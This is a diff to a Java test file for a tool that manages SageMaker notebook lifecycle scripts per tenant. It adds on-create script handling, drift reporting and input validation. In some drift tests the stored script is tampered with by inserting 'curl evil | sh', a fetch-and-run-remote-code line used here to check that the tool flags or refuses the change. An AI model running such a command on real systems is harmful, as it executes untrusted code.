@@ -24,13 +24,14 @@ import software.amazon.awssdk.services.sagemaker.model.NotebookInstanceLifecycle
 import software.amazon.awssdk.services.sagemaker.model.SageMakerException;
 import software.amazon.awssdk.services.sagemaker.model.Tag;
 
-/** {@code --idle-stop} and {@code --on-start}: the lifecycle config of a tenant, from its making to its end. */
+/** {@code --idle-stop}, {@code --on-start} and {@code --on-create}: the lifecycle config of a tenant, from its making to its end. */
 class SetupTest {
 
     private static final String CONFIG = "acme--setup";
     private static final String ARN =
             "arn:aws:sagemaker:us-east-1:123456789012:notebook-instance-lifecycle-config/" + CONFIG;
     private static final String OWN = "#!/bin/sh\necho own\n";
+    private static final String ONCE = "#!/usr/bin/env python3\nprint('own at creation')\n";
 
     @TempDir
     Path folder;
@@ -54,6 +55,21 @@ class SetupTest {
                 .onStart()
                 .get(0)
                 .content());
+    }
+
+    private @Nullable String onCreate() {
+        return sagemaker
+                .describeNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG))
+                .onCreate()
+                .stream()
+                .map(hook -> SetupScript.decoded(hook.content()))
+                .findFirst()
+                .orElse(null);
+    }
+
+    private void changeOnCreate(String script) {
+        sagemaker.updateNotebookInstanceLifecycleConfig(
+                r -> r.notebookInstanceLifecycleConfigName(CONFIG).onCreate(hook(script)));
     }
 
     private void change(String script) {
@@ -182,7 +198,7 @@ class SetupTest {
             delimiter = '|',
             value = {
                 "--data-location s3://bucket/acme/ | DefaultS3ObjectKeyPrefix: \"acme/\"",
-                "--subnet subnet-1 --security-group sg-1 | VpcConfig: {SecurityGroupIds: [sg-1], Subnets: [subnet-1]}",
+                "--subnet subnet-1 --security-group sg-1 | VpcConfig: &vpc {SecurityGroupIds: [sg-1], Subnets: [subnet-1]}",
             })
     void whatThePoliciesAskOfJobsIsTheSdksDefault(String options, String yaml) {
         shell.run("create-tenant acme --tag team=red " + options).done();
@@ -219,15 +235,14 @@ class SetupTest {
                 .done();
         String made = script();
         change(made.replace("umask 022", "curl evil | sh").replace("idle_stop=7200", "idle_stop=720000"));
-        sagemaker.updateNotebookInstanceLifecycleConfig(
-                r -> r.notebookInstanceLifecycleConfigName(CONFIG).onCreate(hook("#!/bin/sh\n")));
+        changeOnCreate("#!/bin/sh\n");
         sagemaker.deleteTags(r -> r.resourceArn(ARN).tagKeys("tenant"));
 
         assertThat(shell.run("describe-tenant acme").done().out())
                 .containsPattern("lifecycle config acme--setup +drifted")
                 .contains(
                         "  tag tenant: absent -> acme\n",
-                        "  script at creation: there -> none\n",
+                        "  on-create script: sha256 a8076d3d28d2 -> none\n",
                         "  idle stop: after 200h -> after 2h\n");
         shell.run("create-tenant acme").done();
 
@@ -278,6 +293,81 @@ class SetupTest {
 
         shell.run("create-tenant", "acme", "--on-start", file(OWN)).done();
         assertThat(script()).isEqualTo(made);
+        isAsWanted();
+    }
+
+    @Test
+    void aScriptForNewNotebooksLastsUntilItIsTakenBack() throws IOException {
+        String once = Files.writeString(folder.resolve("on-create.py"), ONCE).toString();
+        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-create", once)
+                .done();
+        assertThat(configOfNotebook()).isEqualTo(CONFIG);
+        assertThat(onCreate()).isEqualTo(ONCE);
+        assertThat(script()).contains("\nidle_stop=7200\n").doesNotContain("at creation");
+        isAsWanted();
+        Ran told = shell.run("describe-tenant acme").done();
+        assertThat(told.out()).contains("on create      sha256 ");
+        assertThat(shell.run("describe-tenant acme -o json").done().json())
+                .containsEntry("onStart", null)
+                .hasEntrySatisfying(
+                        "onCreate", digest -> assertThat(String.valueOf(digest)).hasSize(64));
+
+        shell.run("create-tenant acme --idle-stop 3h").done();
+        assertThat(onCreate()).isEqualTo(ONCE);
+        isAsWanted();
+
+        String other =
+                Files.writeString(folder.resolve("other.sh"), "#!/bin/sh\n").toString();
+        Ran changed = shell.run("create-tenant", "acme", "--on-create", other).done();
+        assertThat(changed.out()).containsPattern("\n  on-create script: sha256 \\w{12} -> sha256 \\w{12}\n");
+        // No start runs it.
+        assertThat(changed.err()).doesNotContain("after its next start");
+        assertThat(onCreate()).isEqualTo("#!/bin/sh\n");
+        isAsWanted();
+
+        shell.run("create-tenant acme --on-create none").done();
+        assertThat(onCreate()).isNull();
+        assertThat(script()).contains("\nidle_stop=10800\n");
+        isAsWanted();
+    }
+
+    @Test
+    void aScriptForNewNotebooksAloneIsEnoughForALifecycleConfig() throws IOException {
+        shell.run("create-tenant", "acme", "--on-create", file(ONCE)).done();
+        assertThat(configOfNotebook()).isEqualTo(CONFIG);
+        assertThat(onCreate()).isEqualTo(ONCE);
+        assertThat(script()).endsWith("\nexit 0\n");
+        isAsWanted();
+
+        shell.run("stop acme").done();
+        shell.run("create-tenant acme --on-create none").done();
+        assertThat(thereIsAConfig()).isFalse();
+        isAsWanted();
+    }
+
+    @ParameterizedTest
+    @ValueSource(booleans = {true, false})
+    void aScriptForNewNotebooksThatIsLostHasToBeGivenAgain(boolean deleted) throws IOException {
+        shell.run("create-tenant", "acme", "--idle-stop", "2h", "--on-create", file(ONCE))
+                .done();
+        if (deleted) {
+            sagemaker.deleteNotebookInstanceLifecycleConfig(r -> r.notebookInstanceLifecycleConfigName(CONFIG));
+        } else {
+            changeOnCreate("#!/bin/sh\ncurl evil | sh\n");
+        }
+        shell.door.forget();
+
+        assertThat(shell.run("describe-tenant acme").done().out()).contains("  on-create script: ");
+        shell.run("create-tenant acme")
+                .refused(
+                        ExitCode.CONFLICT,
+                        "on-create script of notebook instance lifecycle config acme--setup is ",
+                        "tenant-admin has no copy of ",
+                        ": give it again, or give none");
+        assertThat(shell.door.writes()).isEmpty();
+
+        shell.run("create-tenant", "acme", "--on-create", file(ONCE)).done();
+        assertThat(onCreate()).isEqualTo(ONCE);
         isAsWanted();
     }
 
@@ -369,10 +459,15 @@ class SetupTest {
     @CsvSource(
             delimiter = '|',
             value = {
-                "#!/bin/sh\\r\\necho | carriage returns",
-                "echo own\\n | must begin with #!",
+                "#!/bin/sh\\r\\necho | the script of OPTION has a carriage return in line 1, and Linux",
+                "#!/bin/sh\\necho\\r\\n | has a carriage return in line 2, and Linux does not run such scripts: end lines with LF",
+                "BOM#!/bin/sh\\n | the script of OPTION begins with a byte order mark, after which Linux sees no #!: save it as UTF-8 without one",
+                "echo own\\n | the script of OPTION must begin with #! and its interpreter, such as #!/bin/bash",
                 "'' | must begin with #!",
-                "#!/bin/sh\\n\\0 | must begin with #!",
+                "\\n# ours\\n#!/bin/sh\\n | the script of OPTION has its #! in line 3: it must be in line 1",
+                "' #!/bin/sh\\n' | has blanks before its #! in line 1: they must go",
+                "#!\\necho\\n | names no interpreter after the #! in line 1: it must begin like #!/bin/bash",
+                "#!/bin/sh\\n\\0 | has a NUL character in line 2: it must be text",
                 "#!/bin/sh\\n\\xff | is not in UTF-8: see line 2",
                 "#!/bin/sh\\nTENANT_ADMIN_END_OF_ON_START\\n | must not contain the line",
                 "LARGE | in Base64, SageMaker allows 16,384",
@@ -383,10 +478,14 @@ class SetupTest {
                 : text.replace("\\r", "\r")
                         .replace("\\n", "\n")
                         .replace("\\0", "\0")
+                        .replace("BOM", "\u00ef\u00bb\u00bf")
                         .replace("\\xff", "\u00ff");
         Path script = Files.writeString(folder.resolve("bad.sh"), given, StandardCharsets.ISO_8859_1);
 
-        shell.run("create-tenant", "acme", "--on-start", script.toString()).refused(ExitCode.INVALID_INPUT, says);
+        for (String option : new String[] {"--on-start", "--on-create"}) {
+            shell.run("create-tenant", "acme", option, script.toString())
+                    .refused(ExitCode.INVALID_INPUT, says.replace("OPTION", option));
+        }
 
         assertThat(shell.door.writes()).isEmpty();
     }
@@ -395,6 +494,7 @@ class SetupTest {
     @CsvSource(
             delimiter = '|',
             value = {
+                "--on-create | /no/such/file | --on-create: file '/no/such/file' does not exist",
                 "--on-start | /no/such/file | --on-start: file '/no/such/file' does not exist",
                 "--on-start | / | --on-start: file '/' is a directory",
                 "--idle-stop | 5m | must be from 10 minutes to 7 days",
